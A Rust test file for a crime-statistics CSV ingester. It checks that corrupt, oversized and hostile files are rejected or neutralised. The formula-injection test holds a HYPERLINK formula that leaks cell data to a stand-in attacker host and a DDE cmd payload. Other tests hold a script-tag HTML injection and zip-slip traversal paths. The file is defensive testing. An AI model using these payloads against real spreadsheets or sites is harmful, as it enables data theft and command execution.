//! Hostile input (issue #8): every case in `tests/data/hostile/README.md`, through the same
//! engine the worker runs. For each, the file either loads what is good, with every bad row
//! in the reject log (line, column, reason) and `read = used + rejected + duplicates`, or
//! fails with one message that names the file, says what is wrong and what to do. Nothing
//! panics, and nothing takes time or memory out of proportion to the file.
#![cfg(not(target_arch = "wasm32"))]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

#[path = "support/hostile_files.rs"]
mod hostile_files;

#[path = "../fuzz/checks.rs"]
mod checks;

use std::io::Cursor;
use std::time::{Duration, Instant};

use hostile_files::{STREET_HEADER, ZipEntry, street_row};
use safer_trends::charts::{LineSeries, monthly_line_svg};
use safer_trends::export::{count_table_csv, headline_csv, load_report_csv, reject_log_csv};
use safer_trends::ingest::archive::read_zip;
use safer_trends::ingest::{
    FileError, FileProblem, GenericRoles, ReadOutcome, read_file, read_file_with,
};
use safer_trends::model::{Content, CountTable, Dataset, Format, LoadedFile, Month};
use safer_trends::stats::headline::{Polarity, default_comparison, headlines};

const DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/hostile/");

fn corpus(name: &str) -> Vec<u8> {
    std::fs::read(format!("{DIR}{name}")).unwrap_or_else(|e| panic!("{name}: {e}"))
}

/// Reads a corpus file that must load; checks the account and the exports.
fn loads(name: &str) -> LoadedFile {
    let file = read_file(name, &corpus(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
    checks::check_loaded(&file);
    file
}

/// Reads a corpus file that must fail; checks the message names the file.
fn fails(name: &str) -> FileError {
    let error = read_file(name, &corpus(name)).expect_err(name);
    checks::check_error(&error, name);
    error
}

fn month(text: &str) -> Month {
    Month::parse_iso(text).unwrap()
}

/// (line, column, reason) of every reject.
fn rejects(file: &LoadedFile) -> Vec<(u64, Option<usize>, &str)> {
    file.rejects
        .iter()
        .map(|r| (r.line, r.column, r.reason.as_str()))
        .collect()
}

// ---- Files that cannot be read: one message naming the file, the problem and what to do ----

#[test]
fn an_empty_file_and_a_header_alone_say_so() {
    let error = fails("empty.csv");
    assert_eq!(error.problem, FileProblem::Empty);
    assert!(error.to_string().contains("download or export it again"));
    let error = fails("header-only.csv");
    assert_eq!(error.problem, FileProblem::NoDataRows);
    assert!(error.to_string().contains("no data rows"), "{error}");
}

#[test]
fn pictures_workbooks_and_documents_renamed_csv_are_named_for_what_they_are() {
    for (name, looks_like) in [
        ("png-renamed.csv", "a PNG image"),
        (
            "xlsx-renamed.csv",
            "a zip archive or an Excel workbook (.xlsx)",
        ),
        ("pdf-renamed.csv", "a PDF document"),
    ] {
        let error = fails(name);
        assert_eq!(error.problem, FileProblem::NotText { looks_like }, "{name}");
        let message = error.to_string();
        assert!(message.starts_with(&format!(
            "{name} is not a CSV file: it looks like {looks_like}"
        )));
        assert!(
            message.contains("save a spreadsheet as CSV first"),
            "{message}"
        );
    }
}

/// The worker hands anything that starts like a zip to the archive reader, so a workbook
/// renamed `.csv` reaches it too: it must say "Excel workbook", not list the workbook's
/// parts as files it skipped.
#[test]
fn a_workbook_read_as_an_archive_is_named_for_what_it_is() {
    let error = read_zip(
        "xlsx-renamed.csv",
        Cursor::new(corpus("xlsx-renamed.csv")),
        &mut |_, _| {},
    )
    .unwrap_err();
    checks::check_error(&error, "xlsx-renamed.csv");
    assert_eq!(
        error.problem,
        FileProblem::NotText {
            looks_like: "an Excel workbook (.xlsx)"
        }
    );
    assert!(
        error
            .to_string()
            .contains("save a spreadsheet as CSV first")
    );
}

// ---- Files that load what is good and log every bad row ----

#[test]
fn mixed_line_endings_keep_the_line_numbers_an_editor_shows() {
    let file = loads("mixed-line-endings.csv");
    assert_eq!(
        (file.rows.read, file.rows.used, file.rows.rejected),
        (6, 5, 1)
    );
    assert_eq!(file.rejects[0].line, 5);
    assert_eq!(file.rejects[0].column, Some(2));
    assert!(file.rejects[0].reason.contains("\"2023-13\""));
}

/// `tests/engine.rs` covers a broken byte after 64 KiB of text; this is the corpus file the
/// browser test loads, with the broken byte among valid accented UTF-8.
#[test]
fn invalid_utf8_mid_file_rejects_that_row_only() {
    let file = loads("invalid-utf8-mid-file.csv");
    assert_eq!(
        (file.rows.read, file.rows.used, file.rows.rejected),
        (9, 8, 1)
    );
    assert_eq!(
        rejects(&file),
        [(
            8,
            None,
            "the line has bytes that are not valid UTF-8 text; save the file again as UTF-8"
        )]
    );
    let counts = file.street_counts().unwrap();
    assert_eq!(counts.count(month("2023-01"), "Café crime"), Some(6));
    assert!(file.details.encoding.contains("1 invalid byte sequence"));
}

#[test]
fn utf16_without_a_byte_order_mark_is_read_in_either_byte_order() {
    for (name, order) in [
        ("utf16le-no-bom.csv", "little-endian"),
        ("utf16be-no-bom.csv", "big-endian"),
    ] {
        let file = loads(name);
        assert_eq!((file.rows.read, file.rows.used), (9, 9), "{name}");
        assert!(
            file.details
                .encoding
                .starts_with(&format!("UTF-16 ({order}), from the zero bytes")),
            "{name}: {}",
            file.details.encoding
        );
        let counts = file.street_counts().unwrap();
        assert_eq!(counts.total(month("2023-01")), Some(3), "{name}");
    }
}

#[test]
fn title_rows_above_the_header_are_skipped_and_said() {
    let file = loads("title-rows.csv");
    assert_eq!((file.rows.read, file.rows.used), (5, 5));
    assert_eq!((file.details.title_rows, file.details.header_line), (2, 4));
}

#[test]
fn impossible_months_in_a_street_file_are_rejected_with_the_cell() {
    // As the worker reads it, with this month from the browser's clock (here Nov 2026).
    let name = "impossible-dates-street.csv";
    let generic = GenericRoles {
        this_month: Some((2026, 11)),
        ..GenericRoles::default()
    };
    let file = match read_file_with(name, Cursor::new(corpus(name)), &generic, &mut |_| {}) {
        Ok(ReadOutcome::Loaded { file, .. }) => file,
        other => panic!("{name}: {other:?}"),
    };
    // 12 rows: 2 well-formed months police.uk cannot have (2010-11, before its first month,
    // and 2199-01, after this one), 7 that are not months, 3 good ones.
    assert_eq!(
        (file.rows.read, file.rows.used, file.rows.rejected),
        (12, 3, 9)
    );
    assert_eq!(
        file.rows.read,
        file.rows.used + file.rows.rejected + file.rows.duplicates
    );
    let (window, malformed): (Vec<_>, Vec<_>) = file
        .rejects
        .iter()
        .partition(|r| r.reason.contains("outside police.uk's range"));
    let window: Vec<(u64, &str)> = window.iter().map(|r| (r.line, r.reason.as_str())).collect();
    assert_eq!(
        window,
        [
            (
                11,
                "Month: 2010-11 is outside police.uk's range of months (Dec 2010 to Nov 2026): \
                 it is before police.uk's street-level data begins. Correct the year or month \
                 in this row (police.uk writes months as YYYY-MM), or remove the row"
            ),
            (
                12,
                "Month: 2199-01 is outside police.uk's range of months (Dec 2010 to Nov 2026): \
                 it is after this month, so police.uk cannot have published it yet. Correct \
                 the year or month in this row (police.uk writes months as YYYY-MM), or remove \
                 the row"
            ),
        ]
    );
    let found: Vec<&str> = malformed
        .iter()
        .map(|r| r.reason.split("found ").nth(1).unwrap())
        .collect();
    assert_eq!(
        found,
        [
            "\"2023-13\"",
            "\"2023-00\"",
            "\"0000-01\"",
            "\"10000-01\"",
            "\"2023-1\"",
            "\"2023-02-30\"",
            "\"Feb 2023\""
        ]
    );
    assert!(file.rejects.iter().all(|r| r.column == Some(2)));
    assert!(
        file.rejects[0]
            .reason
            .starts_with("Month: expected a month written as YYYY-MM")
    );
    let counts = file.street_counts().unwrap();
    assert_eq!(
        counts.months().collect::<Vec<_>>(),
        [month("2023-01"), month("2023-02"), month("2023-03")]
    );
}

#[test]
fn police_uk_months_run_from_december_2010_to_this_month_inclusive() {
    let mut text = format!("{STREET_HEADER}\n");
    for (i, month) in ["2010-11", "2010-12", "2026-11", "2026-12", "2027-01"]
        .iter()
        .enumerate()
    {
        text.push_str(&street_row(i, month));
        text.push('\n');
    }
    let read = |this_month| {
        let generic = GenericRoles {
            this_month,
            ..GenericRoles::default()
        };
        match read_file_with(
            "window.csv",
            Cursor::new(text.clone()),
            &generic,
            &mut |_| {},
        ) {
            Ok(ReadOutcome::Loaded { file, .. }) => file,
            other => panic!("{other:?}"),
        }
    };
    // In Nov 2026: Dec 2010 and Nov 2026 are the first and last possible months.
    let file = read(Some((2026, 11)));
    let months: Vec<Month> = file.street_counts().unwrap().months().collect();
    assert_eq!(months, [month("2010-12"), month("2026-11")]);
    let lines: Vec<u64> = file.rejects.iter().map(|r| r.line).collect();
    assert_eq!(lines, [2, 5, 6]);
    assert!(file.rejects.iter().all(|r| r.column == Some(2)));
    // Without the browser's clock only the first month is known.
    let file = read(None);
    assert_eq!((file.rows.used, file.rows.rejected), (4, 1));
    assert!(
        file.rejects[0]
            .reason
            .contains("outside police.uk's range of months (from Dec 2010)"),
        "{}",
        file.rejects[0].reason
    );
}

#[test]
fn thirtieth_of_february_month_13_and_year_0_are_rejected_in_dates() {
    let file = loads("impossible-dates-stop-search.csv");
    assert_eq!(file.format, Format::PoliceStopSearch);
    assert_eq!(
        (file.rows.read, file.rows.used, file.rows.rejected),
        (8, 2, 6)
    );
    let lines: Vec<u64> = file.rejects.iter().map(|r| r.line).collect();
    assert_eq!(lines, [3, 4, 5, 6, 7, 9]);
    for (reject, cell) in file.rejects.iter().zip([
        "2023-02-30T10:00:00+00:00",
        "2023-13-01T10:00:00+00:00",
        "0000-01-01T10:00:00+00:00",
        "2023-01-32T10:00:00+00:00",
        "2023-01-05T25:00:00+00:00",
        "31/02/2023",
    ]) {
        assert_eq!(reject.column, Some(2));
        assert!(
            reject.reason.contains(&format!("found \"{cell}\"")),
            "{reject:?}"
        );
    }

    let file = loads("impossible-dates-table.csv");
    assert_eq!(file.format, Format::RecordedCrimeLong);
    assert_eq!(
        (file.rows.read, file.rows.used, file.rows.rejected),
        (7, 2, 5)
    );
    for (reject, cell) in file.rejects.iter().zip([
        "30-02-2023",
        "31-13-2023",
        "31-03-0000",
        "00-03-2023",
        "31-04-2023",
    ]) {
        assert_eq!(reject.column, Some(1));
        assert!(
            reject
                .reason
                .starts_with("expected a date written day-first")
                && reject.reason.contains(cell),
            "{reject:?}"
        );
    }
}

/// Counts that overflow, round, underflow, are negative or fractional: rejected, each with
/// its reason, never wrapped, rounded or read as zero. Markers are missing with a reason.
#[test]
fn overflowing_negative_and_fractional_counts_are_rejected_with_reasons() {
    let file = loads("numbers-counts.csv");
    let Content::Series(set) = &file.content else {
        panic!("expected figures")
    };
    let expected: [(&str, Option<&str>); 21] = [
        ("120", None),
        ("99999999999999999999", Some("too large")),
        ("1e400", Some("too large")),
        ("18446744073709551616", Some("too large")),
        ("9007199254740993", Some("too large")),
        ("1e-400", Some("too close to zero")),
        ("-5", Some("negative")),
        ("(5)", Some("negative")),
        ("-0.5", Some("negative")),
        ("2.5", Some("whole number")),
        ("12%", Some("percentage")),
        ("1,2,3", Some("thousands separators")),
        ("1.2.3", Some("two decimal points")),
        ("0x10", Some("expected a number")),
        ("NaN", Some("expected a number")),
        ("inf", Some("expected a number")),
        ("[x]", None),
        ("..", None),
        ("*", None),
        ("", None),
        ("1,234", None),
    ];
    let mut rejected = file.rejects.iter();
    for (i, (cell, why)) in expected.iter().enumerate() {
        let line = i as u64 + 2;
        match why {
            Some(why) => {
                let reject = rejected.next().unwrap();
                assert_eq!((reject.line, reject.column), (line, Some(5)), "{cell}");
                assert!(reject.reason.contains(why), "{cell}: {}", reject.reason);
            }
            None => assert!(file.rejects.iter().all(|r| r.line != line), "{cell}"),
        }
    }
    assert_eq!(file.rows.rejected, 15);
    assert_eq!(file.rows.used, 6);
    // The used rows' figures: counts as written, markers missing (never zero).
    let mut values: Vec<Option<f64>> = set
        .series()
        .flat_map(|(_, s)| s.values().map(|f| f.value))
        .collect();
    values.sort_by(|a, b| a.partial_cmp(b).unwrap());
    assert_eq!(values, [None, None, None, None, Some(120.0), Some(1234.0)]);
}

/// In a table of rates negative and fractional figures are fine; overflow is not.
#[test]
fn overflowing_figures_are_rejected_with_reasons() {
    let file = loads("numbers-figures.csv");
    assert_eq!(file.format, Format::GenericTidy);
    let reasons: Vec<(u64, &str)> = file
        .rejects
        .iter()
        .map(|r| (r.line, r.reason.as_str()))
        .collect();
    let good_rows = file.rows.read - 9;
    let bad: Vec<u64> = [1, 2, 3, 4, 6, 7]
        .iter()
        .map(|i| good_rows + 1 + i + 1)
        .collect();
    assert_eq!(reasons.iter().map(|(l, _)| *l).collect::<Vec<_>>(), bad);
    assert!(reasons[0].1.contains("too large"), "{reasons:?}");
    assert!(reasons[3].1.contains("too close to zero"), "{reasons:?}");
    assert!(reasons[4].1.contains("expected a number"), "{reasons:?}");
    assert_eq!(file.rows.used, good_rows + 3);
}

// ---- Injection: payloads in every text field stay text and leave neutralised ----

#[test]
fn formula_payloads_in_every_field_leave_every_export_neutralised() {
    let file = loads("formula-injection.csv");
    assert_eq!(
        (file.rows.read, file.rows.used, file.rows.rejected),
        (10, 9, 1)
    );
    let counts = file.street_counts().unwrap();
    assert!(
        counts
            .categories()
            .contains("=HYPERLINK(\"http://attacker.invalid/?leak=\"&A1,\"Click\")")
    );
    // Fields are trimmed, so the tab and carriage-return payloads arrive as `=1+1`.
    assert!(counts.categories().contains("=1+1"));
    // The file name is a payload too.
    let mut named = file.clone();
    named.name = "=cmd|' /C calc'!A0.csv".to_owned();
    let mut dataset = Dataset::default();
    dataset.add(named);
    let table = dataset.table();
    let kind = default_comparison(&table);
    let exports = [
        count_table_csv(&table),
        headline_csv(&headlines(&table, kind, Polarity::LowerIsBetter)),
        load_report_csv(&dataset),
        reject_log_csv(dataset.files()),
    ];
    for csv in &exports {
        checks::assert_neutralised(csv);
    }
    // Every payload is still there, as text, behind its apostrophe.
    assert!(exports[0].contains("'=HYPERLINK("));
    assert!(exports[0].contains("'-nan") && exports[0].contains("'+inf"));
    assert!(exports[1].contains("\r\n'=1+1,"));
    assert!(exports[2].starts_with("File,") && exports[2].contains("\r\n'=cmd|"));
    assert!(exports[3].contains("'=cmd|"));
}

#[test]
fn html_and_script_in_every_field_stay_text_in_exports_and_charts() {
    let file = loads("html-injection.csv");
    assert_eq!(
        (file.rows.read, file.rows.used, file.rows.rejected),
        (8, 7, 1)
    );
    let counts = file.street_counts().unwrap();
    assert!(
        counts
            .categories()
            .contains("<script>window.__pwned=1</script>")
    );
    let table = CountTable::from_counts(&counts);
    // The exports carry the text exactly as written (a spreadsheet shows it, never runs it).
    assert!(count_table_csv(&table).contains("<script>window.__pwned=1</script>"));
    for (i, name) in table.categories.iter().enumerate() {
        let series = [LineSeries {
            name: name.clone(),
            points: table.series(i),
            colour: safer_trends::charts::CATEGORICAL[0],
        }];
        let svg = monthly_line_svg(name, name, &series, (420, 220)).unwrap();
        // Only the chart's own elements: every payload's tags arrive escaped.
        for tag in svg.split('<').skip(1) {
            let element: String = tag
                .trim_start_matches('/')
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric())
                .collect();
            assert!(
                [
                    "svg", "rect", "text", "polyline", "circle", "line", "path", "title", "desc",
                    "g", ""
                ]
                .contains(&element.as_str()),
                "{name}: <{element} in the chart"
            );
        }
        assert!(!svg.contains("onerror=\"window") && !svg.contains("onload=\"window"));
    }
}

// ---- Big files, made at test time: bounded time and memory ----

/// A 100 MB line in the middle of a street file is one rejected row, reported short, and
/// the time grows with the size (a quadratic reader would take hours here).
#[test]
fn a_100_mb_line_is_one_rejected_row_read_in_linear_time() {
    let time = |line_bytes: usize| {
        let bytes = hostile_files::long_line_file(5, line_bytes, 5);
        let started = Instant::now();
        let file = read_file("long-line.csv", &bytes).unwrap();
        let took = started.elapsed();
        checks::check_loaded(&file);
        assert_eq!(
            (file.rows.read, file.rows.used, file.rows.rejected),
            (11, 10, 1)
        );
        assert_eq!(file.rejects[0].line, 7);
        assert!(
            file.rejects[0]
                .reason
                .contains("1 fields but the header has 12")
        );
        assert!(file.rejects[0].raw.chars().count() <= 501);
        took
    };
    let small = time(10_000_000);
    let big = time(100_000_000);
    assert!(
        big < small * 30 + Duration::from_secs(5),
        "10 MB took {small:?}, 100 MB took {big:?}"
    );
}

/// A 100 MB line with no line break at all: its header is not a table, said in a short
/// message, quickly.
#[test]
fn a_file_that_is_one_100_mb_line_is_refused_in_a_short_message() {
    let bytes = vec![b'x'; 100_000_000];
    let started = Instant::now();
    let error = read_file("one-line.csv", &bytes).unwrap_err();
    checks::check_error(&error, "one-line.csv");
    assert!(matches!(
        error.problem,
        FileProblem::UnrecognisedHeader { line: 1, .. }
    ));
    assert!(
        error.to_string().len() < 1_000,
        "{} bytes",
        error.to_string().len()
    );
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "{:?}",
        started.elapsed()
    );
}

/// A reason quotes the cell it is about; a 10 MB cell is quoted short.
#[test]
fn a_huge_cell_is_quoted_short_in_the_reject_log() {
    let huge = "9".repeat(10_000_000);
    let csv = format!(
        "{STREET_HEADER}\n{}\nid,{huge},P,P,,,,,,Burglary,,\n",
        street_row(1, "2023-01")
    );
    let file = read_file("huge-cell.csv", csv.as_bytes()).unwrap();
    checks::check_loaded(&file);
    assert_eq!(file.rows.rejected, 1);
    assert!(
        file.rejects[0].reason.chars().count() <= 1_001,
        "{} chars",
        file.rejects[0].reason.len()
    );
    assert!(
        file.rejects[0]
            .reason
            .starts_with("Month: expected a month")
    );
}

#[test]
fn a_hundred_thousand_columns_load_or_are_refused_in_proportion() {
    let started = Instant::now();
    let file = read_file(
        "wide-street.csv",
        &hostile_files::many_columns_street_file(100_000, 20),
    )
    .unwrap();
    checks::check_loaded(&file);
    assert_eq!(
        (file.format, file.rows.read, file.rows.used),
        (Format::PoliceStreet, 20, 20)
    );

    let error = read_file(
        "wide-unknown.csv",
        &hostile_files::many_columns_unknown_file(100_000),
    )
    .unwrap_err();
    checks::check_error(&error, "wide-unknown.csv");
    let message = error.to_string();
    assert!(
        message.contains("\u{201c}c8\u{201d} and 99992 more"),
        "{message}"
    );
    assert!(message.len() < 1_000);

    let file = read_file(
        "wide-periods.csv",
        &hostile_files::many_period_columns_file(100_000),
    )
    .unwrap();
    checks::check_loaded(&file);
    assert_eq!(file.format, Format::GenericWide);
    assert!(
        started.elapsed() < Duration::from_secs(120),
        "{:?}",
        started.elapsed()
    );
}

// ---- Quotes and headers ----

/// An unclosed quote swallows every line after it into one cell. That row is rejected with
/// a reason that says so, instead of the following rows vanishing without a word.
#[test]
fn an_unclosed_quote_is_named_in_the_reject_log() {
    for (name, line, column) in [
        ("unbalanced-quotes.csv", 4, 7),
        ("unbalanced-quotes-last-column.csv", 4, 12),
    ] {
        let file = loads(name);
        let reject = file
            .rejects
            .iter()
            .find(|r| r.line == line)
            .unwrap_or_else(|| panic!("{name}: {:?}", file.rejects));
        assert_eq!(reject.column, Some(column), "{name}");
        assert!(
            reject.reason.starts_with(
                "a quote mark (\") opens this cell and is not closed until line 7, so 3 lines"
            ),
            "{name}: {}",
            reject.reason
        );
        assert_eq!(
            (file.rows.read, file.rows.rejected),
            (line - 1, 1),
            "{name}"
        );
    }
}

#[test]
fn duplicate_column_names_are_refused_naming_the_column() {
    let error = fails("duplicate-headers.csv");
    let message = error.to_string();
    assert!(
        message.starts_with("duplicate-headers.csv has two columns named \u{201c}Month\u{201d}"),
        "{message}"
    );
    assert!(message.contains("columns 2 and 13"), "{message}");
}

// ---- Archives ----

#[test]
fn a_zip_with_dot_dot_and_absolute_paths_only_reads_them() {
    let read = read_zip(
        "zip-slip.zip",
        Cursor::new(corpus("zip-slip.zip")),
        &mut |_, _| {},
    )
    .unwrap();
    assert_eq!(read.skipped, ["../../.bashrc"]);
    let names: Vec<&str> = read
        .files
        .iter()
        .map(|f| f.as_ref().unwrap().name.as_str())
        .collect();
    assert_eq!(
        names,
        [
            "zip-slip.zip \u{203a} ../../../../tmp/evil/2023-02-city-of-london-street.csv",
            "zip-slip.zip \u{203a} /etc/2023-03-city-of-london-street.csv",
            "zip-slip.zip \u{203a} ..\\..\\windows\\2023-04-city-of-london-street.csv",
        ]
    );
    for file in read.files.iter().map(|f| f.as_ref().unwrap()) {
        checks::check_loaded(file);
    }
    // Nothing was written anywhere: the engine has no file system to write to.
    assert!(!std::path::Path::new("/tmp/evil").exists());
}

/// `tests/archive.rs` covers one entry that inflates 1,000-fold; here are hundreds of
/// entries, each too small to judge alone.
#[test]
fn a_zip_bomb_of_many_small_entries_is_refused_in_one_message_and_the_rest_loads() {
    let good = format!("{STREET_HEADER}\n{}\n", street_row(1, "2023-01"));
    let zeros = vec![b'0'; 9 * 1024 * 1024];
    let mut entries = vec![ZipEntry::new(
        "2023-01/2023-01-city-of-london-street.csv",
        good.as_bytes(),
    )];
    entries.extend((0..300).map(|i| ZipEntry::new(format!("bomb/{i:03}.csv"), &zeros)));
    let bytes = hostile_files::zip(&entries);
    assert!(bytes.len() < 10_000_000);
    let started = Instant::now();
    let read = read_zip("bomb.zip", Cursor::new(bytes), &mut |_, _| {}).unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(read.files.len(), 2);
    let error = read.files[0].as_ref().unwrap_err();
    assert!(matches!(error.problem, FileProblem::Refused(_)));
    let message = error.to_string();
    assert!(
        message.starts_with("bomb.zip was not read: 300 of its CSV files would inflate"),
        "{message}"
    );
    assert!(message.contains("zip bomb"), "{message}");
    assert_eq!(read.files[1].as_ref().unwrap().rows.used, 1);
}

/// An entry that says it is small but inflates without end is cut off at what it said.
#[test]
fn an_entry_that_lies_about_its_size_is_cut_off_at_the_declared_size() {
    let zeros = vec![b'0'; 50 * 1024 * 1024];
    let mut entry = ZipEntry::new("liar.csv", &zeros);
    entry.declared_size = Some(1_000);
    let started = Instant::now();
    let read = read_zip(
        "liar.zip",
        Cursor::new(hostile_files::zip(&[entry])),
        &mut |_, _| {},
    )
    .unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    let error = read.files[0].as_ref().unwrap_err();
    assert!(
        error.file.starts_with("liar.zip \u{203a} liar.csv"),
        "{error}"
    );
}

#[test]
fn a_zip_with_hundreds_of_files_loads_them_all() {
    let bytes = hostile_files::many_files_zip(500, 3);
    let read = read_zip("many.zip", Cursor::new(bytes), &mut |_, _| {}).unwrap();
    assert_eq!(read.files.len(), 500);
    let mut dataset = Dataset::default();
    for file in read.files {
        let file = file.unwrap();
        checks::check_loaded(&file);
        dataset.add(file);
    }
    let table = dataset.table();
    assert_eq!(table.rows.len(), 500);
    assert_eq!(dataset.rows().used, 1_500);
    // More than the limit: refused as a whole (the 2,001-entry case is in tests/archive.rs).
    assert_eq!(safer_trends::ingest::archive::MAX_ENTRIES, 2_000);
}

// ---- Many at once: a bad file costs nothing already loaded ----

#[test]
fn every_corpus_file_read_together_leaves_the_good_data_whole() {
    let good = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/assets/sample/2023-01-city-of-london-street.csv"
    ))
    .unwrap();
    let sample = read_file("2023-01-city-of-london-street.csv", &good).unwrap();
    let mut alone = Dataset::default();
    alone.add(sample.clone());
    let before = alone.table();
    let january = before.rows[0].total;
    let mut names: Vec<String> = std::fs::read_dir(DIR)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".csv"))
        .collect();
    names.sort();
    let mut dataset = Dataset::default();
    let mut failed = 0;
    for name in &names {
        match read_file(name, &corpus(name)) {
            Ok(file) => {
                checks::check_loaded(&file);
                dataset.add(file);
            }
            Err(error) => {
                checks::check_error(&error, name);
                failed += 1;
            }
        }
    }
    assert!(failed >= 5, "{failed}");
    // Some corpus files are January 2023 City of London street files too: the sample, added
    // last, is the latest publication of that month and force, so every one of its crimes
    // counts (as it has them) whatever the junk loaded before it held.
    dataset.add(sample);
    assert_eq!(
        dataset.files().last().unwrap().name,
        "2023-01-city-of-london-street.csv"
    );
    assert_eq!(dataset.files().len(), names.len() - failed + 1);
    let after = dataset.table();
    let jan = after
        .rows
        .iter()
        .find(|r| r.month == month("2023-01"))
        .unwrap();
    assert!(jan.total >= january);
    for (i, category) in before.categories.iter().enumerate() {
        let j = after.categories.iter().position(|c| c == category).unwrap();
        assert!(jan.counts.as_ref().unwrap()[j] >= before.rows[0].counts.as_ref().unwrap()[i]);
    }
}

/// A zip entry or a slow disk may hand the bytes over a few at a time; the file must be
/// judged on its whole head all the same, or a picture passes for text and Windows-1252
/// for broken UTF-8.
#[test]
fn a_stream_that_trickles_is_sniffed_like_the_whole_file() {
    struct Trickle<'a>(&'a [u8]);
    impl std::io::Read for Trickle<'_> {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            let n = self.0.len().min(buf.len()).min(3);
            let (now, rest) = self.0.split_at(n);
            buf[..n].copy_from_slice(now);
            self.0 = rest;
            Ok(n)
        }
    }
    let cp1252 = format!("{STREET_HEADER}\n{}\n", street_row(1, "2023-01"))
        .replace("Burglary", "Caf\u{e9} crime")
        .chars()
        .map(|c| if c == '\u{e9}' { 0xe9 } else { c as u8 })
        .collect::<Vec<u8>>();
    for (name, bytes) in [
        ("png-renamed.csv", corpus("png-renamed.csv")),
        ("utf16le-no-bom.csv", corpus("utf16le-no-bom.csv")),
        ("windows-1252.csv", cp1252),
    ] {
        let trickled = safer_trends::ingest::read_file_from(name, Trickle(&bytes), &mut |_| {});
        assert_eq!(trickled, read_file(name, &bytes), "{name}");
    }
}
